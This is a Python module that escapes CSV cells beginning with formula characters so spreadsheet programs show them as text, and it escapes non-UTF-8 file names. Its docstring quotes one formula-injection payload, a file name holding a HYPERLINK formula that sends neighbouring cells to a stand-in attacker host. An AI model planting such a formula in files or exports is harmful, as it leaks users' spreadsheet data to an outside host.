"""CSV that a spreadsheet program opens as data, never as formulas.

Excel, LibreOffice Calc and Google Sheets run a cell that starts with ``=``,
``+``, ``-`` or ``@`` (and, after they trim it, a tab or a carriage return) as
a formula: a photo named ``=HYPERLINK("http://evil/?"&A1,"open").jpg`` would
become a live link that leaks the neighbouring cells. OWASP's advice, which
those programs honour: put a single quote before such a cell, so it shows as
the text it is. :func:`spreadsheet_cell` does that to one value;
:func:`csv_text` writes a whole table with it, and every CSV objlen makes (the
batch's ``results.csv``, the History export) goes through it.

Numbers are left alone (``-1.5`` stays a number); only text is changed.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell.

    Text starting with one of :data:`FORMULA_STARTS` gets a leading single
    quote; ``None`` becomes an empty cell; anything else is returned as is.

    >>> spreadsheet_cell('=HYPERLINK("http://x")')
    '\\'=HYPERLINK("http://x")'
    >>> spreadsheet_cell(-1.5), spreadsheet_cell("bolt.jpg"), spreadsheet_cell(None)
    (-1.5, 'bolt.jpg', '')
    """
    if value is None:
        return ""
    if isinstance(value, str):
        value = _encodable(value)
        if value.startswith(FORMULA_STARTS):
            return "'" + value
    return value


def _encodable(text: str) -> str:
    """``text`` as UTF-8 can hold it: a file name's bytes that are not UTF-8
    (Python's surrogate escapes, as ``os.listdir`` gives them) are written as
    ``\\xNN``, so ``caf\\xe9.jpg`` stands for the Latin-1 name ``café.jpg``
    instead of the whole table failing to be written.

    >>> _encodable("caf\\udce9.jpg")
    'caf\\\\xe9.jpg'
    """
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        try:
            return text.encode("utf-8", "surrogateescape").decode("utf-8", "backslashreplace")
        except UnicodeEncodeError:  # a lone surrogate that no file name gave
            return text.encode("utf-8", "backslashreplace").decode("utf-8")
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A table as CSV text: ``header``, then one line per row, every cell
    through :func:`spreadsheet_cell` (``\\n`` line ends, standard quoting)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([spreadsheet_cell(name) for name in header])
    for row in rows:
        writer.writerow([spreadsheet_cell(value) for value in row])
    return buffer.getvalue()


__all__ = ["FORMULA_STARTS", "csv_text", "spreadsheet_cell"]
